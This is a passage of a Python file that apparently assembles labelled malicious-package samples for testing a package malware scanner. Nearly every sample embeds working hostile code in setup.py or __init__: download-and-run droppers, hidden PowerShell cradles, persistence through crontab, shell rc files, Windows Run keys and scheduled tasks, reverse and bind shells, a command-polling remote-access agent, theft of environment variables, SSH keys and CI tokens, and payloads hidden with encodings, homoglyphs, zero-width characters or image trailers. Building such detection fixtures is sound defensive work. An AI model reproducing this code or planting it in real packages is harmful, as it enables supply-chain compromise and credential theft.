                                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

                """
            )
            + SETUP_TAIL
        ),
    )
)

add(
    Sample(
        id="windows-exe-dropper-startfile",
        description="downloads an .exe into APPDATA and starts it, only on Windows",
        rules=frozenset({"code/download-execute"}),
        build=Build.SDIST,
        techniques=(T.RUN_SETUP_TOPLEVEL, T.STAGE2_BINARY_CHMOD, T.WAIT_OS_HOST),
        files=sdist(
            src(
                """
                import os, sys
                from urllib.request import urlretrieve
                from setuptools import setup

                if sys.platform == "win32":
                    exe = os.path.join(os.environ["APPDATA"], "WindowsUpdate", "svchost.exe")
                    os.makedirs(os.path.dirname(exe), exist_ok=True)
                    urlretrieve("http://192.0.2.200/u.exe", exe)
                    os.startfile(exe)

                """
            )
            + SETUP_TAIL
        ),
    )
)

add(
    Sample(
        id="powershell-download-cradle",
        description="hidden PowerShell IEX(New-Object Net.WebClient).DownloadString cradle",
        rules=frozenset({"code/download-command", "code/powershell-download-cradle"}),
        build=Build.SDIST,
        techniques=(T.RUN_SETUP_TOPLEVEL, T.STAGE2_POWERSHELL_CRADLE, T.WAIT_OS_HOST),
        files=sdist(
            src(
                """
                import os
                import subprocess
                from setuptools import setup

                CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')"
                if os.name == "nt":
                    subprocess.Popen(
                        ["powershell", "-NoP", "-NonI", "-W", "Hidden", "-Exec", "Bypass", "-c",
                         CRADLE],
                        creationflags=0x08000000,
                    )

                """
            )
            + SETUP_TAIL
        ),
    )
)

add(
    Sample(
        id="powershell-iwr-invoke-expression",
        description="Invoke-WebRequest piped to Invoke-Expression via os.system in __init__",
        rules=frozenset({"code/download-command", "code/powershell-download-cradle"}),
        build=Build.WHEEL,
        techniques=(T.RUN_INIT_TOPLEVEL, T.STAGE2_POWERSHELL_CRADLE),
        files=pkg(
            src(
                """
                import os
                if os.name == "nt":
                    os.system('powershell -w hidden "iwr http://203.0.113.9/r.ps1 -UseB | iex"')
                """
            )
        ),
    )
)

add(
    Sample(
        id="powershell-encoded-command",
        description="setup.py runs powershell -EncodedCommand with a base64 UTF-16LE script",
        rules=frozenset({"code/download-command", "code/powershell-hidden-encoded"}),
        build=Build.SDIST,
        techniques=(T.RUN_SETUP_TOPLEVEL, T.STAGE2_ENCODED_COMMAND, T.STAGE2_POWERSHELL_CRADLE),
        files=sdist(
            src(
                """
                import platform
                import subprocess
                from setuptools import setup

                ENC = @ENC@

                if platform.system() == "Windows":
                    subprocess.call(["powershell.exe", "-WindowStyle", "Hidden",
                                     "-EncodedCommand", ENC])

                """
            ).replace("@ENC@", _wrap(PS_ENCODED))
            + SETUP_TAIL
        ),
    )
)

# --- §3 stays ---------------------------------------------------------------------------

add(
    Sample(
        id="crontab-curl-every-10-minutes",
        description="install override appends a crontab line that runs curl|sh",
        rules=frozenset({"code/download-command", "code/persistence"}),
        build=Build.SDIST,
        techniques=(T.RUN_CMDCLASS, T.PERSIST_CRONTAB, T.STAGE2_CURL_SH),
        files=sdist(
            src(
                """
                import os
                from setuptools import setup
                from setuptools.command.install import install

                class Install(install):
                    def run(self):
                        line = "*/10 * * * * curl -s http://203.0.113.9/b | sh"
                        os.system(f'(crontab -l 2>/dev/null; echo "{line}") | crontab -')
                        super().run()

                setup(name="samplepkg", version="1.0.0", cmdclass={"install": Install})
                """
            )
        ),
    )
)

add(
    Sample(
        id="systemd-user-unit",
        description="writes a systemd user unit and enables it with systemctl --user",
        rules=frozenset({"code/persistence"}),
        build=Build.WHEEL,
        techniques=(T.RUN_INIT_TOPLEVEL, T.PERSIST_SYSTEMD),
        files=pkg(
            src(
                """
                import subprocess
                import sys
                from pathlib import Path

                unit_dir = Path.home() / ".config" / "systemd" / "user"
                unit = unit_dir / "dbus-session-helper.service"
                if not unit.exists():
                    unit_dir.mkdir(parents=True, exist_ok=True)
                    unit.write_text(
                        "[Unit]\\nDescription=D-Bus session helper\\n\\n"
                        "[Service]\\nExecStart=" + sys.executable + " -m samplepkg._agent\\n"
                        "Restart=always\\n\\n[Install]\\nWantedBy=default.target\\n"
                    )
                    subprocess.run(["systemctl", "--user", "daemon-reload"], check=False)
                    subprocess.run(["systemctl", "--user", "enable", "--now", unit.name],
                                   check=False)
                """
            ),
            extra={
                "samplepkg/_agent.py": (
                    "import os,socket\nwhile 1:\n    s=socket.create_connection(('203.0.113.9',"
                    "443))\n    os.system(s.recv(4096).decode())\n"
                )
            },
        ),
    )
)

add(
    Sample(
        id="bashrc-zshrc-append",
        description="appends a curl|sh line to ~/.bashrc and ~/.zshrc from setup.py",
        rules=frozenset({"code/persistence", "code/shell-download-exec"}),
        build=Build.SDIST,
        techniques=(T.RUN_SETUP_TOPLEVEL, T.PERSIST_SHELL_RC, T.STAGE2_CURL_SH),
        files=sdist(
            src(
                """
                import os
                from setuptools import setup

                HOOK = "\\n(curl -fs http://198.51.100.7/rc | sh &) >/dev/null 2>&1\\n"
                for rc in ("~/.bashrc", "~/.zshrc", "~/.profile"):
                    path = os.path.expanduser(rc)
                    try:
                        with open(path, "a") as fh:
                            fh.write(HOOK)
                    except OSError:
                        pass

                """
            )
            + SETUP_TAIL
        ),
    )
)

add(
    Sample(
        id="windows-run-key",
        description="adds a HKCU Run value pointing at pythonw with a dropped script",
        rules=frozenset({"code/persistence"}),
        build=Build.WHEEL,
        techniques=(T.RUN_INIT_TOPLEVEL, T.PERSIST_RUN_KEY),
        files=pkg(
            src(
                r"""
                import os
                import sys

                if sys.platform.startswith("win"):
                    import winreg

                    script = os.path.join(os.environ["APPDATA"], "svc", "upd.pyw")
                    key = winreg.OpenKey(
                        winreg.HKEY_CURRENT_USER,
                        r"Software\Microsoft\Windows\CurrentVersion\Run",
                        0,
                        winreg.KEY_SET_VALUE,
                    )
                    winreg.SetValueEx(key, "OneDriveUpdate", 0, winreg.REG_SZ,
                                      f'"{sys.executable}w" "{script}"')
                    winreg.CloseKey(key)
                """
            )
        ),
    )
)

add(
    Sample(
        id="reg-add-run-key-cmd",
        description="reg.exe add ...\\CurrentVersion\\Run via subprocess in an install hook",
        rules=frozenset({"code/persistence"}),
        build=Build.SDIST,
        techniques=(T.RUN_CMDCLASS, T.PERSIST_RUN_KEY),
        files=sdist(
            src(
                r"""
                import subprocess
                from setuptools import setup
                from setuptools.command.install import install

                class Inst(install):
                    def run(self):
                        subprocess.call(
                            r'reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run '
                            r'/v Updater /t REG_SZ /d "C:\Users\Public\upd.exe" /f', shell=True)
                        install.run(self)

                setup(name="samplepkg", version="1.0.0", cmdclass={"install": Inst})
                """
            )
        ),
    )
)

add(
    Sample(
        id="startup-folder-vbs",
        description="drops a .vbs launcher into the Startup folder",
        rules=frozenset({"code/persistence", "code/powershell-hidden-encoded"}),
        build=Build.WHEEL,
        techniques=(T.RUN_INIT_TOPLEVEL, T.PERSIST_STARTUP_FOLDER),
        files=pkg(
            src(
                r"""
                import os

                startup = os.path.join(os.getenv("APPDATA", ""), "Microsoft", "Windows",
                                       "Start Menu", "Programs", "Startup")
                if os.path.isdir(startup):
                    with open(os.path.join(startup, "sync.vbs"), "w") as f:
                        f.write('CreateObject("WScript.Shell").Run "powershell -w hidden -c '
                                'iex(iwr http://192.0.2.8/s)", 0\n')
                """
            )
        ),
    )
)

add(
    Sample(
        id="schtasks-onlogon",
        description="creates a scheduled task that runs at logon",
        rules=frozenset({"code/persistence"}),
        build=Build.SDIST,
        techniques=(T.RUN_SETUP_TOPLEVEL, T.PERSIST_SCHEDULED_TASK),
        files=sdist(
            src(
                """
                import os
                import subprocess
                import sys
                from setuptools import setup

                if os.name == "nt":
                    subprocess.run(
                        ["schtasks", "/create", "/f", "/sc", "onlogon", "/rl", "highest",
                         "/tn", "MicrosoftEdgeUpdateTaskUser",
                         "/tr", sys.executable + "w -c \\"import samplepkg.agent\\""],
                        capture_output=True,
                    )

                """
            )
            + SETUP_TAIL
        ),
    )
)


# --- §3 remote control --------------------------------------------------------------------

add(
    Sample(
        id="setup-reverse-shell-dup2-pty",
        description="setup.py top level: socket, dup2 of 0/1/2, pty.spawn",
        rules=frozenset({"code/reverse-shell"}),
        build=Build.SDIST,
        techniques=(T.RUN_SETUP_TOPLEVEL, T.RC_REVERSE_SHELL),
        files=sdist(
            src(
                """
                import os
                import pty
                import socket

                from setuptools import setup

                if os.fork() == 0:
                    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                    sock.connect(("203.0.113.9", 4444))
                    os.dup2(sock.fileno(), 0)
                    os.dup2(sock.fileno(), 1)
                    os.dup2(sock.fileno(), 2)
                    pty.spawn("/bin/sh")
                    os._exit(0)

                """
            )
            + SETUP_TAIL
        ),
    )
)

add(
    Sample(
        id="init-subprocess-bound-to-socket",
        description="thread at import: shell subprocess whose stdio is a connected socket",
        rules=frozenset({"code/reverse-shell"}),
        build=Build.BOTH,
        techniques=(T.RUN_INIT_TOPLEVEL, T.RC_SUBPROCESS_SOCKET, T.RC_REVERSE_SHELL),
        files=pkg(
            src(
                """
                import socket as _s
                import subprocess as _sp
                import threading as _t


                def _session():
                    conn = _s.socket()
                    conn.connect(("198.51.100.99", 8443))
                    _sp.call(["/bin/bash", "-i"], stdin=conn.fileno(), stdout=conn.fileno(),
                             stderr=conn.fileno())


                _t.Thread(target=_session, daemon=True).start()
                """
            )
        ),
    )
)

add(
    Sample(
        id="bind-shell-0000-4444",
        description="listens on 0.0.0.0:4444 and runs what it receives in a shell",
        rules=frozenset({"code/reverse-shell"}),
        build=Build.WHEEL,
        techniques=(T.RUN_INIT_TOPLEVEL, T.RC_BIND_SHELL),
        files=pkg(
            src(
                """
                import socket
                import subprocess
                import threading


                def serve():
                    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                    srv.bind(("0.0.0.0", 4444))
                    srv.listen(1)
                    while True:
                        client, _ = srv.accept()
                        while data := client.recv(1024):
                            out = subprocess.run(data.decode(), shell=True, capture_output=True)
                            client.send(out.stdout + out.stderr)


                threading.Thread(target=serve, daemon=True).start()
                """
            )
        ),
    )
)

add(
    Sample(
        id="windows-cmd-pipe-relay",
        description="cmd.exe with pipes relayed over a socket by two threads",
        rules=frozenset({"code/reverse-shell"}),
        build=Build.WHEEL,
        techniques=(T.RUN_INIT_TOPLEVEL, T.RC_SUBPROCESS_SOCKET, T.WAIT_OS_HOST),
        files=pkg(
            src(
                """
                import os, socket, subprocess, threading

                def pump(src, dst):
                    while True:
                        chunk = src.read(1) if hasattr(src, "read") else src.recv(1024)
                        if not chunk:
                            break
                        dst.send(chunk) if hasattr(dst, "send") else (dst.write(chunk), dst.flush())

                if os.name == "nt":
                    s = socket.create_connection(("192.0.2.77", 443))
                    p = subprocess.Popen(["cmd.exe"], stdin=subprocess.PIPE,
                                         stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
                    threading.Thread(target=pump, args=(s, p.stdin), daemon=True).start()
                    threading.Thread(target=pump, args=(p.stdout, s), daemon=True).start()
                """
            )
        ),
    )
)

add(
    Sample(
        id="command-poll-rat",
        description="polls a C2 for commands, runs them, posts output back",
        rules=frozenset({"code/host-info-exfiltration", "code/suspicious-endpoint"}),
        build=Build.WHEEL,
        techniques=(T.RUN_INIT_TOPLEVEL, T.RC_RAT, T.WAIT_SLEEP),
        files=pkg(
            "from samplepkg import agent as _agent  # noqa: F401\n",
            extra={
                "samplepkg/agent.py": src(
                    """
                    import platform, subprocess, threading, time, uuid
                    import requests

                    C2 = "http://198.51.100.201:8000"
                    ID = uuid.uuid4().hex

                    def loop():
                        requests.post(f"{C2}/hello", json={"id": ID, "os": platform.platform()})
                        while True:
                            task = requests.get(f"{C2}/task/{ID}").json()
                            if task.get("cmd"):
                                res = subprocess.getoutput(task["cmd"])
                                requests.post(f"{C2}/result/{ID}", data=res.encode())
                            time.sleep(30)

                    threading.Thread(target=loop, daemon=True).start()
                    """
                )
            },
        ),
    )
)

# --- §3 hides ----------------------------------------------------------------------------

add(
    Sample(
        id="base64-exec-init",
        description="__init__ execs a base64-decoded string",
        rules=frozenset({"code/exec-decoded-payload"}),
        build=Build.BOTH,
        techniques=(T.RUN_INIT_TOPLEVEL, T.HIDE_BASE64),
        files=pkg(
            "import base64\n\n_CFG = @B64@\nexec(base64.b64decode(_CFG).decode())\n".replace(
                "@B64@", _wrap(INNER_B64)
            )
        ),
    )
)

add(
    Sample(
        id="hex-fromhex-exec",
        description="bytes.fromhex payload decoded and exec'd",
        rules=frozenset({"code/exec-decoded-payload"}),
        build=Build.WHEEL,
        techniques=(T.RUN_INIT_TOPLEVEL, T.HIDE_HEX),
        files=pkg(
            "data = @HEX@\nexec(bytes.fromhex(data).decode('utf-8'))\n".replace(
                "@HEX@", _wrap(INNER_HEX)
            )
        ),
    )
)

add(
    Sample(
        id="binascii-unhexlify-eval-compile",
        description="binascii.unhexlify -> compile -> eval in setup.py",
        rules=frozenset({"code/exec-decoded-payload"}),
        build=Build.SDIST,
        techniques=(T.RUN_SETUP_TOPLEVEL, T.HIDE_HEX),
        files=sdist(
            (
                "import binascii\nfrom setuptools import setup\n\nH = @HEX@\n"
                "eval(compile(binascii.unhexlify(H), 'setup', 'exec'))\n\n"
            ).replace("@HEX@", _wrap(INNER_HEX))
            + SETUP_TAIL
        ),
    )
)

add(
    Sample(
        id="zlib-base64-exec",
        description="zlib.decompress(base64.b64decode(...)) then exec",
        rules=frozenset({"code/exec-decoded-payload"}),
        build=Build.BOTH,
        techniques=(T.RUN_INIT_TOPLEVEL, T.HIDE_ZLIB, T.HIDE_BASE64),
        files=pkg(
            ("import zlib as z, base64 as b\nexec(z.decompress(b.b64decode(@ZB@)))\n").replace(
                "@ZB@", _wrap(INNER_ZB64)
            )
        ),
    )
)

add(
    Sample(
        id="reversed-b64-zlib-compile",
        description="reversed string -> base64 -> zlib -> compile -> exec, variables renamed",
        rules=frozenset({"code/exec-decoded-payload"}),
        build=Build.WHEEL,
        techniques=(T.RUN_INIT_TOPLEVEL, T.HIDE_ZLIB, T.HIDE_BASE64),
        files=pkg(
            src(
                """
                import base64 as O0O0
                import zlib as OO00
                lI1l = @RB@
                Il1l = OO00.decompress(O0O0.b64decode(lI1l[::-1]))
                _ = compile(Il1l, "<string>", "exec")
                exec(_)
                """
            ).replace("@RB@", _wrap(INNER_REV_B64Z))
        ),
    )
)

add(
    Sample(
        id="marshal-loads-exec",
        description="marshal.loads of a code object, executed",
        rules=frozenset({"code/exec-decoded-payload"}),
        build=Build.WHEEL,
        techniques=(T.RUN_INIT_TOPLEVEL, T.HIDE_MARSHAL),
        files=pkg(
            "import marshal\n\n_code = @M@\nexec(marshal.loads(_code))\n".replace(
                "@M@", _bytes_lines(INNER_MARSHAL)
            )
        ),
    )
)

add(
    Sample(
        id="rot13-codecs-exec",
        description="codecs.decode(..., 'rot13') then exec",
        rules=frozenset({"code/exec-decoded-payload"}),
        build=Build.SDIST,
        techniques=(T.RUN_SETUP_TOPLEVEL, T.HIDE_ROT13),
        files=sdist(
            (
                "import codecs\nfrom setuptools import setup\n\n"
                "exec(codecs.decode(@R@, 'rot_13'))\n\n"
            ).replace("@R@", repr(INNER_ROT13))
            + SETUP_TAIL
        ),
    )
)

add(
    Sample(
        id="dunder-import-built-strings",
        description="__import__ with strings assembled at run time, then .system",
        rules=frozenset({"code/download-command", "code/obfuscated-import"}),
        build=Build.WHEEL,
        techniques=(T.RUN_INIT_TOPLEVEL, T.HIDE_DYNAMIC_IMPORT, T.STAGE2_CURL_SH),
        files=pkg(
            src(
                """
                _m = "".join(["o", "s"])
                _f = "sys" + "tem"
                getattr(__import__(_m), _f)("curl -s http://192.0.2.9/x | sh")
                __import__("sub" + "process").Popen(["sh", "-c", "id"])
                """
            )
        ),
    )
)

add(
    Sample(
        id="getattr-builtins-exec",
        description="getattr(builtins, 'ex'+'ec') applied to downloaded code",
        rules=frozenset({"code/exec-remote-code", "code/obfuscated-attribute"}),
        build=Build.WHEEL,
        techniques=(T.RUN_INIT_TOPLEVEL, T.HIDE_GETATTR_BUILTINS, T.STAGE2_DOWNLOAD_EXEC),
        files=pkg(
            src(
                """
                import builtins
                import urllib.request

                runner = getattr(builtins, "ex" + "ec")
                runner(urllib.request.urlopen("http://198.51.100.7/n").read())
                """
            )
        ),
    )
)

add(
    Sample(
        id="vars-builtins-eval",
        description="__builtins__ dict lookup of eval with a reversed name",
        rules=frozenset({"code/exec-decoded-payload"}),
        build=Build.WHEEL,
        techniques=(T.RUN_INIT_TOPLEVEL, T.HIDE_GETATTR_BUILTINS, T.HIDE_BASE64),
        files=pkg(
            (
                "import base64\n"
                "b = __builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)\n"
                "b['cexe'[::-1]](base64.b64decode(@B@))\n"
            ).replace("@B@", _wrap(INNER_B64))
        ),
    )
)

add(
    Sample(
        id="chr-chain-exec",
        description="exec of a string rebuilt from a list of chr() code points",
        rules=frozenset({"code/char-code-string", "code/exec-obfuscated-string"}),
        build=Build.SDIST,
        techniques=(T.RUN_SETUP_TOPLEVEL, T.HIDE_CHR_CHAIN),
        files=sdist(
            (
                "from setuptools import setup\n\n_c = [@C@]\nexec(''.join(chr(x) for x in _c))\n\n"
            ).replace(
                "@C@",
                "\n    "
                + ",\n    ".join(
                    INNER_CHR[i : i + 70].strip(",") for i in range(0, len(INNER_CHR), 70)
                )
                + "\n",
            )
            + SETUP_TAIL
        ),
    )
)

add(
    Sample(
        id="chr-plus-chain-eval",
        description="eval(chr(95)+chr(95)+...) builds an __import__ call",
        rules=frozenset({"code/char-code-string", "code/exec-obfuscated-string"}),
        build=Build.WHEEL,
        techniques=(T.RUN_INIT_TOPLEVEL, T.HIDE_CHR_CHAIN, T.HIDE_DYNAMIC_IMPORT),
        files=pkg(
            "eval(" + "+".join(f"chr({ord(c)})" for c in "__import__('os').system('id')") + ")\n"
        ),
    )
)

add(
    Sample(
        id="huge-single-line-module",
        description="a 30 kB single line of semicolon-joined statements hiding exec",
        rules=frozenset({"code/exec-decoded-payload", "code/long-line"}),
        build=Build.WHEEL,
        techniques=(T.RUN_INIT_TOPLEVEL, T.HIDE_LONG_LINE, T.HIDE_BASE64),
        files=pkg(
            ";".join(f"_v{i}={i * 7919 % 104729}" for i in range(2500))
            + ";import base64;exec(base64.b64decode('"
            + INNER_B64
            + "'))\n"
        ),
    )
)

add(
    Sample(
        id="whitespace-pushed-payload",
        description="exec hidden after 400 spaces on an otherwise innocent line",
        rules=frozenset({"code/exec-remote-code", "code/whitespace-padding"}),
        build=Build.SDIST,
        techniques=(T.RUN_SETUP_TOPLEVEL, T.HIDE_LONG_LINE, T.STAGE2_DOWNLOAD_EXEC),
        files=sdist(
            "from setuptools import setup\nimport urllib.request\n"
            'VERSION = "1.0.0"'
            + " " * 400
            + ';exec(urllib.request.urlopen("http://203.0.113.9/v").read())\n\n'
            + SETUP_TAIL
        ),
    )
)

add(
    Sample(
        id="xor-high-entropy-blob",
        description="a large XOR-encrypted blob decrypted with a short key and executed",
        rules=frozenset({"code/exec-decoded-payload", "code/high-entropy-blob"}),
        build=Build.WHEEL,
        techniques=(T.RUN_INIT_TOPLEVEL, T.HIDE_ENTROPY_BLOB, T.HIDE_ZLIB),
        files=pkg(
            (
                "import zlib\n\n_K = b'k3y!'\n_B = @BLOB@\n"
                "exec(zlib.decompress(bytes(c ^ _K[i % 4] for i, c in enumerate(_B))))\n"
            ).replace("@BLOB@", _bytes_lines(_XOR_BLOB))
        ),
    )
)

add(
    Sample(
        id="entropy-blob-a85-exec",
        description="base85 high-entropy blob fed through lzma to exec in setup.py",
        rules=frozenset({"code/exec-decoded-payload", "code/high-entropy-blob"}),
        build=Build.SDIST,
        techniques=(T.RUN_SETUP_TOPLEVEL, T.HIDE_ENTROPY_BLOB),
        files=sdist(
            (
                "import base64, lzma\nfrom setuptools import setup\n\nBLOB = @A85@\n"
                "exec(lzma.decompress(base64.b85decode(BLOB)))\n\n"
            ).replace(
                "@A85@",
                _wrap(base64.b85encode(noise("a85", 3000)).decode()),
            )
            + SETUP_TAIL
        ),
    )
)

add(
    Sample(
        id="pyarmor-like-setup",
        description="PyArmor-style runtime stub and encrypted bytes in setup.py",
        rules=frozenset({"code/pyarmor-obfuscation"}),
        build=Build.SDIST,
        techniques=(T.RUN_SETUP_TOPLEVEL, T.HIDE_PYARMOR),
        files=sdist(
            (
                "# Pyarmor 8.5.0 (trial), 000000, 2024-02-01T00:00:00.000000\n"
                "from pyarmor_runtime_000000 import __pyarmor__\n"
                "__pyarmor__(__name__, __file__, @ARM@)\n"
            ).replace(
                "@ARM@", _bytes_lines(b"PY000000\x00\x03\x0b\x00\xa7\r\r\n" + noise("armor", 1800))
            ),
            extra={
                "pyarmor_runtime_000000/__init__.py": (
                    "# Pyarmor 8.5.0 (trial), 000000, 2024-02-01T00:00:00.000000\n"
                    "from .pyarmor_runtime import __pyarmor__\n"
                ),
                "pyarmor_runtime_000000/pyarmor_runtime.so": FAKE_ELF,
            },
        ),
    )
)

add(
    Sample(
        id="fullwidth-exec-homoglyph",
        description="NFKC-normalised fullwidth letters spell exec and eval",
        rules=frozenset({"code/exec-remote-code", "code/unicode-identifier"}),
        build=Build.WHEEL,
        techniques=(T.RUN_INIT_TOPLEVEL, T.HIDE_HOMOGLYPH, T.STAGE2_DOWNLOAD_EXEC),
        files=pkg(
            "import urllib.request\n"
            "\uff45\uff58\uff45\uff43(urllib.request.urlopen('http://198.51.100.7/q').read())\n"
        ),
    )
)

add(
    Sample(
        id="math-letters-dunder-import",
        description="mathematical sans-serif letters spell __import__ and system",
        rules=frozenset({"code/unicode-identifier"}),
        build=Build.WHEEL,
        techniques=(T.RUN_INIT_TOPLEVEL, T.HIDE_HOMOGLYPH, T.STAGE2_CURL_SH),
        files=pkg(
            "__\U0001d5f6\U0001d5fa\U0001d5fd\U0001d5fc\U0001d5ff\U0001d601__('os')."
            "\U0001d600\U0001d606\U0001d600\U0001d601\U0001d5f2\U0001d5fa"
            "('curl -s http://203.0.113.9/m | sh')\n"
        ),
    )
)

_ZW_BITS = "".join(f"{b:08b}" for b in INNER.encode())
_ZW_TEXT = "".join("\u200b" if bit == "0" else "\u200c" for bit in _ZW_BITS)

add(
    Sample(
        id="zero-width-steganography",
        description="payload encoded as zero-width characters inside a docstring, decoded, run",
        rules=frozenset({"code/zero-width-char"}),
        build=Build.WHEEL,
        techniques=(T.RUN_INIT_TOPLEVEL, T.HIDE_ZERO_WIDTH),
        files=pkg(
            '"""Helpers for colour output.' + _ZW_TEXT + '"""\n\n'
            "_d = __doc__.split('.', 1)[1]\n"
            "_b = ''.join('1' if ch == '\\u200c' else '0' for ch in _d)\n"
            "exec(bytes(int(_b[i:i + 8], 2) for i in range(0, len(_b), 8)).decode())\n"
        ),
    )
)

add(
    Sample(
        id="zero-width-in-identifiers",
        description="zero-width joiners hidden inside a URL and a call that downloads and runs",
        rules=frozenset({"code/exec-remote-code", "code/zero-width-char"}),
        build=Build.WHEEL,
        techniques=(T.RUN_INIT_TOPLEVEL, T.HIDE_ZERO_WIDTH, T.STAGE2_DOWNLOAD_EXEC),
        files=pkg(
            "import urllib.request as u\n"
            "_x = 'http://198.51.100.7/\u200d\u200bz'.replace('\u200d', '').replace('\u200b', '')\n"
            "exec(u.urlopen(_x).read())\n"
        ),
    )
)

add(
    Sample(
        id="json-config-exec",
        description="code stored in a .json file is loaded and exec'd by __init__",
        rules=frozenset({"code/exec-file-content", "code/exec-non-python-file"}),
        build=Build.BOTH,
        techniques=(T.RUN_INIT_TOPLEVEL, T.HIDE_NON_PY),
        files=pkg(
            src(
                """
                import json
                import os

                _here = os.path.dirname(__file__)
                with open(os.path.join(_here, "defaults.json")) as _fh:
                    _cfg = json.load(_fh)
                exec(_cfg["bootstrap"])
                """
            ),
            extra={
                "samplepkg/defaults.json": '{"theme": "dark", "bootstrap": '
                + repr(INNER).replace("'", '"')
                + "}\n"
            },
        ),
    )
)

add(
    Sample(
        id="txt-license-tail-exec",
        description="setup.py execs the part of LICENSE.txt after a marker line",
        rules=frozenset({"code/exec-file-content", "code/exec-non-python-file"}),
        build=Build.SDIST,
        techniques=(T.RUN_SETUP_TOPLEVEL, T.HIDE_NON_PY),
        files=sdist(
            src(
                """
                from pathlib import Path
                from setuptools import setup

                exec(Path(__file__).with_name("LICENSE.txt").read_text().split("# -*- end -*-")[1])

                """
            )
            + SETUP_TAIL,
            extra={
                "LICENSE.txt": "MIT License\n\nCopyright (c) 2024 Nobody\n# -*- end -*-\n" + INNER,
            },
        ),
    )
)

add(
    Sample(
        id="png-trailer-payload",
        description="code appended after the IEND chunk of an icon, sliced out and exec'd",
        rules=frozenset({"code/exec-decoded-payload", "code/exec-non-python-file"}),
        build=Build.WHEEL,
        techniques=(T.RUN_INIT_TOPLEVEL, T.HIDE_NON_PY, T.HIDE_ZLIB),
        files=pkg(
            src(
                """
                import importlib.resources
                import zlib

                _img = importlib.resources.files(__name__).joinpath("icon.png").read_bytes()
                exec(zlib.decompress(_img[_img.rindex(b"IEND") + 8:]))
                """
            ),
            extra={"samplepkg/icon.png": FAKE_PNG + zlib.compress(INNER.encode())},
        ),
    )
)

add(
    Sample(
        id="payload-in-tests-dir-called-from-setup",
        description="setup.py imports tests/bootstrap.py, which steals the environment",
        rules=frozenset({"code/exfiltration"}),
        build=Build.SDIST,
        techniques=(T.RUN_SETUP_TOPLEVEL, T.HIDE_SKIPPED_DIR, T.STEAL_ENV, T.EXFIL_RAW_IP),
        files=sdist(
            "import sys, os\nsys.path.insert(0, os.path.dirname(__file__))\n"
            "from tests.bootstrap import prepare\nfrom setuptools import setup\n\nprepare()\n"
            + SETUP_TAIL,
            extra={
                "tests/__init__.py": "",
                "tests/bootstrap.py": src(
                    """
                    import json, os, urllib.request

                    def prepare():
                        urllib.request.urlopen(
                            "http://198.51.100.7:8080/t",
                            json.dumps(dict(os.environ)).encode(),
                        )
                    """
                ),
            },
        ),
    )
)

add(
    Sample(
        id="payload-in-dist-dir-runpy",
        description="setup.py runs dist/helper.py with runpy; the helper opens a reverse shell",
        rules=frozenset({"code/reverse-shell"}),
        build=Build.SDIST,
        techniques=(T.RUN_SETUP_TOPLEVEL, T.HIDE_SKIPPED_DIR, T.RC_REVERSE_SHELL),
        files=sdist(
            "import runpy\nfrom setuptools import setup\n\n"
            'runpy.run_path("dist/helper.py")\n\n' + SETUP_TAIL,
            extra={
                "dist/helper.py": src(
                    """
                    import os, pty, socket
                    s = socket.create_connection(("192.0.2.61", 1337))
                    for fd in range(3):
                        os.dup2(s.fileno(), fd)
                    pty.spawn("sh")
                    """
                ),
            },
        ),
    )
)

add(
    Sample(
        id="payload-in-package-tests-imported",
        description="package tests/ module with an SSH-key stealer, imported by __init__",
        rules=frozenset({"code/credential-file-access", "code/exfiltration"}),
        build=Build.WHEEL,
        techniques=(T.RUN_INIT_TOPLEVEL, T.HIDE_SKIPPED_DIR, T.STEAL_SSH),
        files=pkg(
            "from samplepkg.tests import fixtures as _fx  # noqa: F401\n",
            extra={
                "samplepkg/tests/__init__.py": "",
                "samplepkg/tests/fixtures.py": src(
                    """
                    import glob, os, requests

                    for key in glob.glob(os.path.expanduser("~/.ssh/*")):
                        requests.post("http://203.0.113.9/f", files={"k": open(key, "rb")})
                    """
                ),
            },
        ),
    )
)

add(
    Sample(
        id="elf-in-pure-python-wheel",
        description="a py3-none-any wheel shipping an ELF executable that __init__ starts",
        rules=frozenset({"code/binary-in-pure-package", "code/disguised-binary"}),
        build=Build.WHEEL,
        techniques=(T.RUN_INIT_TOPLEVEL, T.HIDE_BINARY, T.STAGE2_BINARY_CHMOD),
        files=pkg(
            src(
                """
                import os
                import subprocess

                _bin = os.path.join(os.path.dirname(__file__), "data", "fontcache")
                os.chmod(_bin, 0o755)
                subprocess.Popen([_bin], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
                """
            ),
            extra={"samplepkg/data/fontcache": FAKE_ELF},
        ),
    )
)

add(
    Sample(
        id="pe-exe-in-pure-python-sdist",
        description="an sdist carrying a Windows PE that setup.py launches",
        rules=frozenset({"code/binary-in-pure-package", "code/disguised-binary"}),
        build=Build.SDIST,
        techniques=(T.RUN_SETUP_TOPLEVEL, T.HIDE_BINARY),
        files=sdist(
            "import os, subprocess\nfrom setuptools import setup\n\n"
            "if os.name == 'nt':\n"
            "    subprocess.Popen([os.path.join('samplepkg', 'assets', 'update.dat')])\n\n"
            + SETUP_TAIL,
            extra={
                "samplepkg/assets/update.dat": b"MZ\x90\x00\x03\x00\x00\x00"
                + noise("pe", 56)
                + b"PE\x00\x00"
                + noise("pe2", 2000)
            },
        ),
    )
)

# --- §3 waits ----------------------------------------------------------------------------

add(
    Sample(
        id="ci-only-github-token",
        description="only in CI (CI / GITHUB_ACTIONS) sends runner tokens out",
        rules=frozenset({"code/environment-gated-payload", "code/exfiltration"}),
        build=Build.SDIST,
        techniques=(T.RUN_SETUP_TOPLEVEL, T.WAIT_CI, T.STEAL_ENV, T.EXFIL_RAW_IP),
        files=sdist(
            src(
                """
                import os
                import urllib.parse
                import urllib.request
                from setuptools import setup

                if os.getenv("GITHUB_ACTIONS") == "true" or os.getenv("CI"):
                    wanted = {k: v for k, v in os.environ.items()
                              if k in ("GITHUB_TOKEN", "ACTIONS_RUNTIME_TOKEN",
                                       "ACTIONS_ID_TOKEN_REQUEST_TOKEN", "NPM_TOKEN")}
                    urllib.request.urlopen("http://203.0.113.9/ci",
                                           urllib.parse.urlencode(wanted).encode())

                """
            )
            + SETUP_TAIL
        ),
    )
)

add(
    Sample(
        id="ci-gated-runner-memory-grep",
